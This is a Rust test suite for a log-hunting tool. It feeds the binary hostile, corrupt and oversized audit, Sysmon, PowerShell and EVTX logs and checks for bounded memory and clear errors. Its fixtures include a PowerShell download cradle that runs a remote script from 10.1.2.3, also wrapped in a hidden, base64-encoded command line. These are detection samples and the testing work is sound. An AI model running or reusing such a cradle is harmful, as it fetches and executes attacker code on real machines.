//! Hostile input: logs are attacker-controlled, so every malformed, oversized or
//! booby-trapped input must end in a clear error naming the file and the position,
//! or in the correct result — with bounded memory, in bounded time, never a panic.
//!
//! Each test runs the real binary and measures its peak RSS with `wait4` (no
//! external `time` needed). `tests/bad_input.rs` already covers a garbage file, a
//! truncated gzip, a 50 MB line and symlink loops; this suite goes further.

mod common;

use std::ffi::{OsStr, OsString};
use std::fs::File;
use std::io::{BufWriter, Write};
use std::os::unix::ffi::OsStringExt;
use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};
use std::time::{Duration, Instant};

use common::{indicators, sighunt_bin, str_field};
use serde_json::Value;

/// Peak RSS allowed for any single run, whatever the input (KiB).
const RSS_LIMIT_KIB: u64 = 300 * 1024;
/// A hang guard, not a timing assertion: generous enough for a debug build.
const HANG_LIMIT: Duration = Duration::from_secs(600);

/// What one run of the binary did.
struct Run {
    what: String,
    code: Option<i32>,
    signal: Option<i32>,
    stdout: Vec<u8>,
    stderr: String,
    peak_rss_kib: u64,
}

impl Run {
    fn stdout_text(&self) -> String {
        String::from_utf8_lossy(&self.stdout).into_owned()
    }

    fn findings(&self) -> Vec<Value> {
        common::parse_jsonl(&self.stdout_text())
            .unwrap_or_else(|e| panic!("stdout is not JSON Lines: {e}\n{}", self.describe()))
    }

    fn describe(&self) -> String {
        let tail: Vec<&str> = self.stderr.lines().rev().take(30).collect();
        let tail: Vec<&str> = tail.into_iter().rev().collect();
        format!(
            "`{}` exited {:?} (signal {:?}), peak RSS {} KiB\n--- stderr (tail) ---\n{}",
            self.what,
            self.code,
            self.signal,
            self.peak_rss_kib,
            tail.join("\n")
        )
    }

    /// The checks every hostile run must pass: it ended by itself with a normal exit
    /// status (2 when nothing named could be read), did not panic, and stayed under
    /// the memory bound.
    fn assert_sane(&self) {
        assert_eq!(self.signal, None, "killed by a signal\n{}", self.describe());
        assert!(
            matches!(self.code, Some(0..=2)),
            "unexpected exit status\n{}",
            self.describe()
        );
        assert!(
            !self.stderr.contains("panicked"),
            "panic\n{}",
            self.describe()
        );
        assert!(
            self.peak_rss_kib < RSS_LIMIT_KIB,
            "peak RSS {} KiB over the {} KiB bound\n{}",
            self.peak_rss_kib,
            RSS_LIMIT_KIB,
            self.describe()
        );
        eprintln!("{}: peak RSS {} KiB", self.what, self.peak_rss_kib);
    }
}

/// Runs `sighunt` with `args`, output to files (no pipe can fill up), killed after
/// [`HANG_LIMIT`].
///
/// Peak RSS comes from GNU time (`/usr/bin/time -f %M`) where it exists: it forks
/// the binary from its own small process. Without it, from this process's `wait4`,
/// an upper bound only: a child spawned by vfork+exec inherits the high-water mark
/// of the test harness.
fn sighunt<I, S>(args: I) -> Run
where
    I: IntoIterator<Item = S>,
    S: AsRef<OsStr>,
{
    use std::os::unix::process::CommandExt;
    let args: Vec<OsString> = args.into_iter().map(|a| a.as_ref().to_owned()).collect();
    let what = format!(
        "sighunt {}",
        args.iter()
            .map(|a| a.to_string_lossy())
            .collect::<Vec<_>>()
            .join(" ")
    );
    let dir = tempfile::tempdir().unwrap();
    let out_path = dir.path().join("stdout");
    let err_path = dir.path().join("stderr");
    let time_path = dir.path().join("time");
    let gnu_time = Path::new("/usr/bin/time");
    let mut cmd = if gnu_time.exists() {
        let mut c = Command::new(gnu_time);
        c.arg("-f")
            .arg("%M")
            .arg("-o")
            .arg(&time_path)
            .arg(sighunt_bin());
        c
    } else {
        Command::new(sighunt_bin())
    };
    let child = cmd
        .args(&args)
        .env("NO_COLOR", "1")
        .stdin(Stdio::null())
        .stdout(File::create(&out_path).unwrap())
        .stderr(File::create(&err_path).unwrap())
        // Its own process group, so the hang guard kills the binary under `time` too.
        .process_group(0)
        .spawn()
        .unwrap_or_else(|e| panic!("cannot start {what}: {e}"));
    let pid = child.id() as libc::pid_t;
    let deadline = Instant::now() + HANG_LIMIT;
    let mut killed = false;
    let (status, rusage) = loop {
        let mut status: libc::c_int = 0;
        // SAFETY: plain syscall on our own child with valid out-pointers.
        let mut rusage: libc::rusage = unsafe { std::mem::zeroed() };
        let flags = if killed { 0 } else { libc::WNOHANG };
        let r = unsafe { libc::wait4(pid, &mut status, flags, &mut rusage) };
        if r == pid {
            break (status, rusage);
        }
        assert!(r == 0, "wait4 failed: {}", std::io::Error::last_os_error());
        if Instant::now() >= deadline {
            // SAFETY: signalling our own child's process group.
            unsafe { libc::kill(-pid, libc::SIGKILL) };
            killed = true;
            continue;
        }
        std::thread::sleep(Duration::from_millis(10));
    };
    // The child was reaped by wait4; `Child` is dropped without waiting again.
    drop(child);
    assert!(!killed, "{what} did not finish within {HANG_LIMIT:?}");
    let (mut code, mut signal) = if libc::WIFEXITED(status) {
        (Some(libc::WEXITSTATUS(status)), None)
    } else {
        (None, Some(libc::WTERMSIG(status)))
    };
    let mut peak_rss_kib = rusage.ru_maxrss as u64;
    if let Ok(report) = std::fs::read_to_string(&time_path) {
        // `%M`, after "Command terminated by signal N" / "... non-zero status N".
        let mut lines = report.lines().rev();
        peak_rss_kib = lines
            .next()
            .and_then(|l| l.trim().parse().ok())
            .unwrap_or_else(|| panic!("unexpected time report {report:?}"));
        if let Some(n) = report
            .lines()
            .find_map(|l| l.strip_prefix("Command terminated by signal "))
        {
            signal = n.trim().parse().ok();
            code = None;
        }
    }
    Run {
        what,
        code,
        signal,
        stdout: std::fs::read(&out_path).unwrap(),
        stderr: String::from_utf8_lossy(&std::fs::read(&err_path).unwrap()).into_owned(),
        peak_rss_kib,
    }
}

fn hunt_jsonl(paths: &[&Path]) -> Run {
    let mut args: Vec<&OsStr> = vec!["hunt".as_ref(), "--format".as_ref(), "jsonl".as_ref()];
    args.extend(paths.iter().map(|p| p.as_os_str()));
    sighunt(args)
}

/// A real-shaped nohup exec (SYSCALL, EXECVE, CWD, PROCTITLE) with this serial, pid
/// and nohup target.
fn nohup_event(serial: u64, pid: u32, target: &str) -> String {
    let hex: String = format!("nohup\0{target}")
        .bytes()
        .map(|b| format!("{b:02X}"))
        .collect();
    format!(
        "type=SYSCALL msg=audit(1700000000.{ms:03}:{serial}): arch=c000003e syscall=59 success=yes exit=0 a0=1 a1=2 a2=3 a3=4 items=2 ppid=1 pid={pid} auid=1000 uid=0 gid=0 euid=0 suid=0 fsuid=0 egid=0 sgid=0 fsgid=0 tty=pts0 ses=1 comm=\"nohup\" exe=\"/usr/bin/nohup\" key=(null)\n\
         type=EXECVE msg=audit(1700000000.{ms:03}:{serial}): argc=2 a0=\"nohup\" a1=\"{target}\"\n\
         type=CWD msg=audit(1700000000.{ms:03}:{serial}): cwd=\"/root\"\n\
         type=PROCTITLE msg=audit(1700000000.{ms:03}:{serial}): proctitle={hex}\n",
        ms = serial % 1000
    )
}

fn hex(bytes: &[u8]) -> String {
    bytes.iter().map(|b| format!("{b:02X}")).collect()
}

fn pids(findings: &[Value]) -> Vec<u64> {
    let mut p: Vec<u64> = findings.iter().filter_map(|f| f["pid"].as_u64()).collect();
    p.sort_unstable();
    p
}

/// Audit text of `n` nohup events, pids 10000.., targets under /tmp/.x/.
fn many_events(n: u32) -> String {
    (0..n)
        .map(|i| nohup_event(u64::from(i) + 100, 10_000 + i, "/tmp/.x/payload"))
        .collect()
}

#[test]
fn corrupt_gzip_is_reported_with_file_and_position_and_what_came_before_is_found() {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("corrupt.log.gz");
    let mut enc = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
    enc.write_all(many_events(2_000).as_bytes()).unwrap();
    let mut gz = enc.finish().unwrap();
    // Garbage over the middle of the deflate stream (the header and the first blocks
    // stay intact).
    let mid = gz.len() / 2;
    for (i, b) in gz[mid..mid + 64].iter_mut().enumerate() {
        *b = (i as u8).wrapping_mul(37) ^ 0xA5;
    }
    std::fs::write(&path, &gz).unwrap();
    let run = hunt_jsonl(&[&path]);
    run.assert_sane();
    let err = &run.stderr;
    assert!(
        err.contains("corrupt.log.gz")
            && err.contains("read error")
            && err.contains("line ")
            && err.contains("byte "),
        "the error names the file and the position\n{}",
        run.describe()
    );
    let findings = run.findings();
    assert!(
        findings.len() > 10 && findings.len() < 2_000,
        "{} findings: the events before the damage are found",
        findings.len()
    );
    for f in &findings {
        assert_eq!(str_field(f, "nohup_target"), Some("/tmp/.x/payload"));
    }
}

#[test]
fn truncated_and_corrupt_zstd_are_reported_with_file_and_position() {
    let dir = tempfile::tempdir().unwrap();
    let text = many_events(2_000);
    let z = zstd::encode_all(text.as_bytes(), 3).unwrap();

    let truncated = dir.path().join("truncated.log.zst");
    std::fs::write(&truncated, &z[..z.len() * 2 / 3]).unwrap();
    // A zstd frame whose block headers are overwritten mid-stream.
    let corrupt = dir.path().join("corrupt.log.zst");
    let mut bad = z.clone();
    let mid = bad.len() / 2;
    bad[mid..].iter_mut().step_by(7).for_each(|b| *b = !*b);
    std::fs::write(&corrupt, &bad).unwrap();

    for path in [&truncated, &corrupt] {
        let run = hunt_jsonl(&[path]);
        run.assert_sane();
        let name = path.file_name().unwrap().to_str().unwrap();
        assert!(
            run.stderr.contains(name)
                && run.stderr.contains("read error")
                && run.stderr.contains("line "),
            "the error names {name} and the position\n{}",
            run.describe()
        );
        let findings = run.findings();
        assert!(
            !findings.is_empty() && findings.len() < 2_000,
            "{name}: {} findings; the events before the damage are found",
            findings.len()
        );
    }
}

#[test]
fn a_100_mb_line_costs_neither_memory_nor_the_rest_of_the_file() {
    let dir = tempfile::tempdir().unwrap();
    // Written 1 MiB at a time: the harness stays small.
    let mb = vec![b'A'; 1 << 20];
    let line = |w: &mut dyn Write| (0..100).for_each(|_| w.write_all(&mb).unwrap());

    // Plain: an event, then a 100 MB last line with no newline at all.
    let plain = dir.path().join("tail-line.log");
    {
        let mut f = BufWriter::new(File::create(&plain).unwrap());
        f.write_all(nohup_event(10, 4242, "/tmp/.x/payload").as_bytes())
            .unwrap();
        f.write_all(b"type=EXECVE msg=audit(1700000001.000:11): argc=1 a0=")
            .unwrap();
        line(&mut f);
    }
    // Gzip: an event, 100 MB of a line in ~100 KB of file (a decompression bomb),
    // then an event.
    let bomb = dir.path().join("bomb.log.gz");
    {
        let f = BufWriter::new(File::create(&bomb).unwrap());
        let mut enc = flate2::write::GzEncoder::new(f, flate2::Compression::best());
        enc.write_all(nohup_event(19, 4141, "/tmp/.x/payload").as_bytes())
            .unwrap();
        line(&mut enc);
        enc.write_all(b"\n").unwrap();
        enc.write_all(nohup_event(20, 4343, "/tmp/.x/payload").as_bytes())
            .unwrap();
        enc.finish().unwrap().flush().unwrap();
    }

    let run = hunt_jsonl(&[&plain]);
    run.assert_sane();
    assert!(
        run.stderr.contains("tail-line.log: line 5") && run.stderr.contains("exceeds"),
        "{}",
        run.describe()
    );
    assert_eq!(pids(&run.findings()), [4242], "{}", run.describe());

    let run = hunt_jsonl(&[&bomb]);
    run.assert_sane();
    assert!(
        run.stderr.contains("bomb.log.gz: line 5") && run.stderr.contains("exceeds"),
        "{}",
        run.describe()
    );
    let findings = run.findings();
    assert_eq!(pids(&findings), [4141, 4343], "{}", run.describe());
    let after = findings.iter().find(|f| f["pid"] == 4343).unwrap();
    assert_eq!(after["source"]["line"], 6);
}

#[test]
fn a_million_records_in_one_event_serial_are_bounded_and_the_event_still_found() {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("one-serial.log");
    {
        let mut f = BufWriter::new(File::create(&path).unwrap());
        let stamp = "msg=audit(1700000000.000:42):";
        writeln!(f, "type=SYSCALL {stamp} arch=c000003e syscall=59 success=yes exit=0 a0=1 a1=2 a2=3 a3=4 items=2 ppid=1 pid=4242 auid=1000 uid=0 gid=0 euid=0 suid=0 fsuid=0 egid=0 sgid=0 fsgid=0 tty=pts0 ses=1 comm=\"nohup\" exe=\"/usr/bin/nohup\" key=(null)").unwrap();
        writeln!(
            f,
            "type=EXECVE {stamp} argc=3 a0=\"nohup\" a1=\"/tmp/.x/payload\" a2_len=2000000000"
        )
        .unwrap();
        // A million argument chunks (and stray record types) under the same serial.
        for i in 0..1_000_000u32 {
            if i % 100 == 99 {
                writeln!(f, "type=PATH {stamp} item={i} name=\"/x\" nametype=NORMAL").unwrap();
            } else {
                writeln!(
                    f,
                    "type=EXECVE {stamp}  a2[{i}]=41414141414141414141414141414141"
                )
                .unwrap();
            }
        }
        writeln!(f, "type=CWD {stamp} cwd=\"/root\"").unwrap();
        writeln!(
            f,
            "type=PROCTITLE {stamp} proctitle=6E6F687570002F746D702F2E782F7061796C6F6164"
        )
        .unwrap();
        f.write_all(nohup_event(43, 4343, "/dev/shm/next").as_bytes())
            .unwrap();
    }
    let run = hunt_jsonl(&[&path]);
    run.assert_sane();
    let findings = run.findings();
    assert_eq!(pids(&findings), [4242, 4343], "{}", run.describe());
    let first = findings.iter().find(|f| f["pid"] == 4242).unwrap();
    assert_eq!(str_field(first, "nohup_target"), Some("/tmp/.x/payload"));
    assert!(indicators(first).contains(&"hidden_path"), "{first}");
    // The reassembled argument is cut at the exec's byte cap, not a million chunks.
    assert!(
        run.stdout.len() < 32 << 20,
        "{} bytes of output",
        run.stdout.len()
    );
}

#[test]
fn events_that_never_end_are_bounded() {
    // 300 000 exec events at the same instant, none with its PROCTITLE or EOE:
    // the parser must complete the oldest instead of holding all of them.
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("open-events.log");
    {
        let mut f = BufWriter::new(File::create(&path).unwrap());
        for serial in 0..300_000u32 {
            writeln!(f, "type=SYSCALL msg=audit(1700000000.000:{serial}): arch=c000003e syscall=59 success=yes exit=0 a0=1 a1=2 a2=3 a3=4 items=2 ppid=1 pid={pid} auid=1000 uid=0 gid=0 euid=0 suid=0 fsuid=0 egid=0 sgid=0 fsgid=0 tty=pts0 ses=1 comm=\"ls\" exe=\"/usr/bin/ls\" key=(null)", pid = 1000 + serial % 30_000).unwrap();
            writeln!(
                f,
                "type=EXECVE msg=audit(1700000000.000:{serial}): argc=2 a0=\"ls\" a1=\"-la\""
            )
            .unwrap();
        }
        f.write_all(nohup_event(400_000, 4242, "/tmp/.x/payload").as_bytes())
            .unwrap();
    }
    let run = hunt_jsonl(&[&path]);
    run.assert_sane();
    assert_eq!(pids(&run.findings()), [4242], "{}", run.describe());
    assert!(run.stderr.contains("300001 events"), "{}", run.describe());
}

#[test]
fn invalid_utf8_in_values_and_file_names_gives_a_correct_lossy_result() {
    let dir = tempfile::tempdir().unwrap();
    // A file name that is not UTF-8.
    let name = OsString::from_vec(b"bad-\xff\xfe-name.log".to_vec());
    let path = dir.path().join(&name);
    let mut text = Vec::new();
    // The target hex-encoded (the kernel does that for such bytes), the exe raw.
    text.extend_from_slice(b"type=SYSCALL msg=audit(1700000000.000:10): arch=c000003e syscall=59 success=yes exit=0 a0=1 a1=2 a2=3 a3=4 items=2 ppid=1 pid=4242 auid=1000 uid=0 gid=0 euid=0 suid=0 fsuid=0 egid=0 sgid=0 fsgid=0 tty=pts0 ses=1 comm=\"nohup\" exe=\"/usr/bin/\xc3\x28nohup\" key=(null)\n");
    text.extend_from_slice(b"type=EXECVE msg=audit(1700000000.000:10): argc=2 a0=\"nohup\" a1=");
    text.extend_from_slice(hex(b"/tmp/\xff\xfe\x80/payload").as_bytes());
    text.extend_from_slice(
        b"\ntype=PROCTITLE msg=audit(1700000000.000:10): proctitle=6E6F687570\n",
    );
    // A record whose raw bytes are invalid UTF-8 everywhere, then a good event.
    text.extend_from_slice(
        b"type=EXECVE msg=audit(1700000000.100:11): argc=2 a0=\"\xff\xff\" a1=\"\xed\xa0\x80\"\n",
    );
    text.extend_from_slice(nohup_event(12, 4343, "/dev/shm/ok").as_bytes());
    std::fs::write(&path, &text).unwrap();

    let run = hunt_jsonl(&[&path]);
    run.assert_sane();
    let findings = run.findings();
    assert_eq!(pids(&findings), [4242, 4343], "{}", run.describe());
    let bad = findings.iter().find(|f| f["pid"] == 4242).unwrap();
    assert_eq!(
        str_field(bad, "nohup_target"),
        Some("/tmp/\u{fffd}\u{fffd}\u{fffd}/payload"),
        "{bad}"
    );
    assert!(indicators(bad).contains(&"temp_dir_payload"), "{bad}");
    assert!(
        str_field(&bad["source"], "path")
            .is_some_and(|p| p.ends_with("bad-\u{fffd}\u{fffd}-name.log")),
        "{bad}"
    );
}

#[test]
fn nul_bytes_inside_and_between_records_do_not_hide_what_follows() {
    let dir = tempfile::tempdir().unwrap();
    // A crashed host's audit.log: a block of NULs (preallocated, never written)
    // between records, and NULs inside a record.
    let path = dir.path().join("nul-block.log");
    let mut text = nohup_event(10, 4242, "/tmp/.x/before").into_bytes();
    text.extend(std::iter::repeat_n(0u8, 1 << 20));
    text.extend_from_slice(
        b"\ntype=EXECVE msg=audit(1700000000.500:11): argc=2 a0=\"a\0b\" a1=\"\0\"\n",
    );
    text.extend_from_slice(nohup_event(12, 4343, "/tmp/.x/after").as_bytes());
    std::fs::write(&path, &text).unwrap();
    let run = hunt_jsonl(&[&path]);
    run.assert_sane();
    assert_eq!(pids(&run.findings()), [4242, 4343], "{}", run.describe());

    // NULs at the very start hide the format from sniffing: a clear error when the
    // file is named, and the events are found once the format is given.
    let head = dir.path().join("nul-head.log");
    let mut text = vec![0u8; 128 << 10];
    text.push(b'\n');
    text.extend_from_slice(nohup_event(13, 4444, "/tmp/.x/late").as_bytes());
    std::fs::write(&head, &text).unwrap();
    let run = hunt_jsonl(&[&head]);
    // Nothing could be read: exit status 2 (docs/cli.md), no panic, no signal.
    assert_eq!(
        (run.code, run.signal),
        (Some(2), None),
        "{}",
        run.describe()
    );
    assert!(!run.stderr.contains("panicked"), "{}", run.describe());
    assert!(
        run.stderr.contains("nul-head.log") && run.stderr.contains("format not recognised"),
        "{}",
        run.describe()
    );
    let run = sighunt([
        "hunt".as_ref(),
        "-f".as_ref(),
        "jsonl".as_ref(),
        "--input-format".as_ref(),
        "auditd".as_ref(),
        head.as_os_str(),
    ]);
    run.assert_sane();
    assert_eq!(pids(&run.findings()), [4444], "{}", run.describe());
}

/// A flat (OTRF/NXLog-shaped) PowerShell 4104 event.
fn ps_4104(script: &str, pid: u32) -> String {
    serde_json::json!({
        "EventID": 4104,
        "SourceName": "Microsoft-Windows-PowerShell",
        "Channel": "Microsoft-Windows-PowerShell/Operational",
        "Hostname": "WORKSTATION5.theshire.local",
        "@timestamp": "2020-09-04T20:09:40.845Z",
        "ExecutionProcessID": pid,
        "MessageNumber": "1",
        "MessageTotal": "1",
        "ScriptBlockId": format!("{{11111111-2222-3333-4444-{pid:012}}}"),
        "Path": "",
        "ScriptBlockText": script,
    })
    .to_string()
}

const CRADLE: &str = "$ErrorActionPreference = \"SilentlyContinue\"; IEX (New-Object Net.WebClient).DownloadString('http://10.1.2.3/a.ps1')";

#[test]
fn deeply_nested_json_and_xml_are_rejected_or_read_without_overflowing_the_stack() {
    let dir = tempfile::tempdir().unwrap();
    let depth = 1_000_000;
    let json = dir.path().join("nested.json");
    {
        let mut f = BufWriter::new(File::create(&json).unwrap());
        writeln!(f, "{}", ps_4104("Get-Date", 1)).unwrap();
        write!(f, "{{\"EventID\": 4104, \"x\": ").unwrap();
        f.write_all(&vec![b'['; depth]).unwrap();
        f.write_all(&vec![b']'; depth]).unwrap();
        writeln!(f, "}}").unwrap();
        f.write_all(&vec![b'{'; depth]).unwrap();
        writeln!(f).unwrap();
        writeln!(f, "{}", ps_4104(CRADLE, 4242)).unwrap();
    }
    let run = hunt_jsonl(&[&json]);
    run.assert_sane();
    assert!(
        run.stderr.contains("nested.json: line 2"),
        "the nested object is reported with its line\n{}",
        run.describe()
    );
    let findings = run.findings();
    assert_eq!(pids(&findings), [4242], "{}", run.describe());
    assert!(indicators(&findings[0]).contains(&"download_cradle"));

    let xml = dir.path().join("nested.xml");
    {
        let mut f = BufWriter::new(File::create(&xml).unwrap());
        write!(f, "<Event xmlns='http://schemas.microsoft.com/win/2004/08/events/event'><System><EventID>4104</EventID></System><EventData>").unwrap();
        for _ in 0..200_000 {
            f.write_all(b"<a>").unwrap();
        }
        writeln!(f, "</EventData></Event>").unwrap();
        writeln!(f, "<Event xmlns='http://schemas.microsoft.com/win/2004/08/events/event'><System><Provider Name='Microsoft-Windows-PowerShell'/><EventID>4104</EventID><TimeCreated SystemTime='2020-09-04T20:09:40.845Z'/><Execution ProcessID='4343' ThreadID='1'/><Channel>Microsoft-Windows-PowerShell/Operational</Channel><Computer>WS5</Computer></System><EventData><Data Name='MessageNumber'>1</Data><Data Name='MessageTotal'>1</Data><Data Name='ScriptBlockText'>{}</Data><Data Name='ScriptBlockId'>{{aaaaaaaa-2222-3333-4444-555555555555}}</Data><Data Name='Path'></Data></EventData></Event>",
            CRADLE.replace('"', "&quot;").replace('\'', "&apos;")).unwrap();
    }
    let run = hunt_jsonl(&[&xml]);
    run.assert_sane();
    assert_eq!(pids(&run.findings()), [4343], "{}", run.describe());
}

/// A Sysmon process creation of PowerShell with this command line.
fn sysmon_1(command_line: &str, pid: u32) -> String {
    serde_json::json!({
        "EventID": 1,
        "SourceName": "Microsoft-Windows-Sysmon",
        "Channel": "Microsoft-Windows-Sysmon/Operational",
        "Hostname": "WS5",
        "UtcTime": "2020-09-04 16:09:38.000",
        "ProcessId": pid.to_string(),
        "ProcessGuid": format!("{{aaaaaaaa-bbbb-cccc-dddd-{pid:012}}}"),
        "Image": "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
        "CommandLine": command_line,
        "ParentImage": "C:\\Windows\\System32\\wscript.exe",
        "User": "THESHIRE\\pgustavo",
    })
    .to_string()
}

fn utf16_base64(text: &str) -> String {
    use base64::Engine;
    let bytes: Vec<u8> = text.encode_utf16().flat_map(u16::to_le_bytes).collect();
    base64::engine::general_purpose::STANDARD.encode(bytes)
}

#[test]
fn huge_base64_payloads_are_decoded_within_bounds() {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("huge-enc.json");
    // 3 MB of script after the cradle: ~8 MB of base64 on one command line.
    let script = format!("{CRADLE}\n#{}", "A".repeat(3 << 20));
    let valid = format!(
        "powershell.exe -nop -w hidden -enc {}",
        utf16_base64(&script)
    );
    // 12 MB of something that only looks like base64, and base64 of random bytes.
    let invalid = format!("powershell.exe -EncodedCommand {}", "!@#$".repeat(3 << 20));
    let noise: Vec<u8> = (0..(2u32 << 20))
        .map(|i| (i.wrapping_mul(2_654_435_761) >> 11) as u8)
        .collect();
    let binary = format!("powershell.exe -e {}", {
        use base64::Engine;
        base64::engine::general_purpose::STANDARD.encode(&noise)
    });
    std::fs::write(
        &path,
        format!(
            "{}\n{}\n{}\n",
            sysmon_1(&invalid, 1),
            sysmon_1(&binary, 2),
            sysmon_1(&valid, 4242)
        ),
    )
    .unwrap();
    let run = hunt_jsonl(&[&path]);
    run.assert_sane();
    let findings = run.findings();
    assert_eq!(pids(&findings), [4242], "{}", run.describe());
    let f = &findings[0];
    for i in [
        "encoded_command",
        "download_cradle",
        "error_preference_suppressed",
    ] {
        assert!(indicators(f).contains(&i), "{i} in {f}");
    }
    // What is shown of a decoded payload is bounded too.
    assert!(
        run.stdout.len() < 8 << 20,
        "{} bytes of output",
        run.stdout.len()
    );
}

#[test]
fn ansi_escapes_in_command_lines_and_file_names_are_shown_escaped_in_the_table() {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("e\x1b[2J.log");
    let target = b"/tmp/\x1b[31mr\x07\xc2\x9b";
    let mut text = Vec::new();
    text.extend_from_slice(b"type=SYSCALL msg=audit(1700000000.000:10): arch=c000003e syscall=59 success=yes exit=0 a0=1 a1=2 a2=3 a3=4 items=2 ppid=1 pid=4242 auid=1000 uid=0 gid=0 euid=0 suid=0 fsuid=0 egid=0 sgid=0 fsgid=0 tty=pts0 ses=1 comm=\"nohup\" exe=\"/usr/bin/nohup\" key=(null)\n");
    text.extend_from_slice(b"type=EXECVE msg=audit(1700000000.000:10): argc=2 a0=\"nohup\" a1=");
    text.extend_from_slice(hex(target).as_bytes());
    text.extend_from_slice(b"\ntype=EOE msg=audit(1700000000.000:10):\n");
    std::fs::write(&path, &text).unwrap();

    let run = sighunt([
        "hunt".as_ref(),
        "--format".as_ref(),
        "table".as_ref(),
        "--color".as_ref(),
        "never".as_ref(),
        path.as_os_str(),
    ]);
    run.assert_sane();
    let table = run.stdout_text();
    assert!(
        !run.stdout.iter().any(|&b| b == 0x1b || b == 0x07),
        "no raw escape or bell byte reaches the terminal:\n{table}"
    );
    assert!(!table.contains('\u{9b}'), "no raw C1 CSI:\n{table}");
    assert!(
        table.contains("/tmp/\\x1b[31mr\\x07\\u{9b}") && table.contains("e\\x1b[2J.log"),
        "the escapes are shown:\n{table}"
    );

    // JSON keeps the exact bytes, escaped the JSON way.
    let run = hunt_jsonl(&[&path]);
    run.assert_sane();
    let findings = run.findings();
    assert_eq!(
        str_field(&findings[0], "nohup_target"),
        Some("/tmp/\x1b[31mr\x07\u{9b}")
    );
    assert!(!run.stdout.contains(&0x1b));
}

// ---------------------------------------------------------------------------------------
// EVTX: truncated and corrupt chunks, from real files of the shared corpus.
// ---------------------------------------------------------------------------------------

const EVTX_HEADER: usize = 4096;
const EVTX_CHUNK: usize = 65536;

/// A corpus file, or `None` (test skipped) when the corpus is absent outside CI.
fn corpus_file(rel: &str) -> Option<PathBuf> {
    let path = PathBuf::from(concat!(env!("CARGO_MANIFEST_DIR"), "/../shared/corpus/")).join(rel);
    if path.exists() {
        return Some(path);
    }
    assert!(
        std::env::var("CI").as_deref() != Ok("true"),
        "corpus file {} is missing under CI",
        path.display()
    );
    eprintln!("skipped: corpus file {} is absent", path.display());
    None
}

/// The Sysmon file: 17 chunks of real process creations.
const SYSMON_EVTX: &str =
    "windows/sbousseaden_EVTX-ATTACK-SAMPLES_PanacheSysmon_vs_AtomicRedTeam01.evtx";

fn events_in_summary(stderr: &str) -> u64 {
    let at = stderr.rfind(" event").expect("summary line");
    stderr[..at]
        .rsplit(' ')
        .next()
        .and_then(|n| n.parse().ok())
        .unwrap_or_else(|| panic!("no event count in {stderr}"))
}

#[test]
fn corrupt_evtx_chunks_are_reported_by_chunk_and_the_others_are_read() {
    let Some(src) = corpus_file(SYSMON_EVTX) else {
        return;
    };
    let data = std::fs::read(&src).unwrap();
    assert_eq!((data.len() - EVTX_HEADER) % EVTX_CHUNK, 0);
    let dir = tempfile::tempdir().unwrap();
    let whole = dir.path().join("whole.evtx");
    std::fs::write(&whole, &data).unwrap();
    let baseline = hunt_jsonl(&[&whole]);
    baseline.assert_sane();
    let all = events_in_summary(&baseline.stderr);
    assert!(all > 100, "{}", baseline.describe());

    // Chunk 2: bad magic. Chunk 3: records overwritten with garbage. Chunk 4: header
    // fields (record numbers, offsets, checksum) overwritten with 0xFF.
    let mut bad = data.clone();
    let chunk = |n: usize| EVTX_HEADER + (n - 1) * EVTX_CHUNK;
    bad[chunk(2)..chunk(2) + 8].copy_from_slice(b"NotChunk");
    for (i, b) in bad[chunk(3) + 512 + 4096..chunk(3) + 512 + 20_000]
        .iter_mut()
        .enumerate()
    {
        *b = (i as u8).wrapping_mul(91) ^ 0x5c;
    }
    bad[chunk(4) + 8..chunk(4) + 128].fill(0xFF);
    let path = dir.path().join("corrupt-chunks.evtx");
    std::fs::write(&path, &bad).unwrap();
    let run = hunt_jsonl(&[&path]);
    run.assert_sane();
    assert!(
        run.stderr.contains("corrupt-chunks.evtx: chunk 2"),
        "the bad chunk is named\n{}",
        run.describe()
    );
    let read = events_in_summary(&run.stderr);
    assert!(
        read > 0 && read < all,
        "{read} of {all} events read: the intact chunks still are\n{}",
        run.describe()
    );
}

#[test]
fn evtx_cut_short_is_reported_not_silently_empty() {
    let Some(src) = corpus_file(SYSMON_EVTX) else {
        return;
    };
    let data = std::fs::read(&src).unwrap();
    let dir = tempfile::tempdir().unwrap();
    // Cut inside the file header, one byte into a chunk, mid-chunk, one byte short.
    let cuts = [
        1_000,
        EVTX_HEADER + 1,
        EVTX_HEADER + 3 * EVTX_CHUNK + 30_000,
        data.len() - 1,
    ];
    for cut in cuts {
        let path = dir.path().join(format!("cut-{cut}.evtx"));
        std::fs::write(&path, &data[..cut]).unwrap();
        let run = hunt_jsonl(&[&path]);
        run.assert_sane();
        assert!(
            run.stderr.contains(&format!("cut-{cut}.evtx:"))
                && run.stderr.contains("1 input error"),
            "a truncated EVTX file gets an error naming it\n{}",
            run.describe()
        );
        // What happened and where: the chunk cut short and its byte offset, or the
        // offset inside the header where the file ends.
        let place = if cut < EVTX_HEADER {
            format!("cut-{cut}.evtx: truncated EVTX file: it ends at byte offset {cut}, inside")
        } else {
            let whole = (cut - EVTX_HEADER) / EVTX_CHUNK;
            format!(
                "cut-{cut}.evtx: chunk {}: truncated EVTX file: chunk {} at byte offset {}",
                whole + 1,
                whole + 1,
                EVTX_HEADER + whole * EVTX_CHUNK
            )
        };
        assert!(
            run.stderr.contains(&place),
            "the error says where the file was cut: `{place}`\n{}",
            run.describe()
        );
        if cut > EVTX_HEADER + EVTX_CHUNK {
            assert!(
                events_in_summary(&run.stderr) > 0,
                "the complete chunks before the cut are read\n{}",
                run.describe()
            );
        }
    }
    // The same, compressed (streamed, not seeked).
    let path = dir.path().join("cut.evtx.gz");
    let mut enc = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
    enc.write_all(&data[..EVTX_HEADER + 2 * EVTX_CHUNK + 100])
        .unwrap();
    std::fs::write(&path, enc.finish().unwrap()).unwrap();
    let run = hunt_jsonl(&[&path]);
    run.assert_sane();
    assert!(
        run.stderr.contains("cut.evtx.gz: chunk 3") && events_in_summary(&run.stderr) > 0,
        "{}",
        run.describe()
    );
    assert!(
        run.stderr.contains(&format!(
            "truncated EVTX file: chunk 3 at byte offset {}",
            EVTX_HEADER + 2 * EVTX_CHUNK
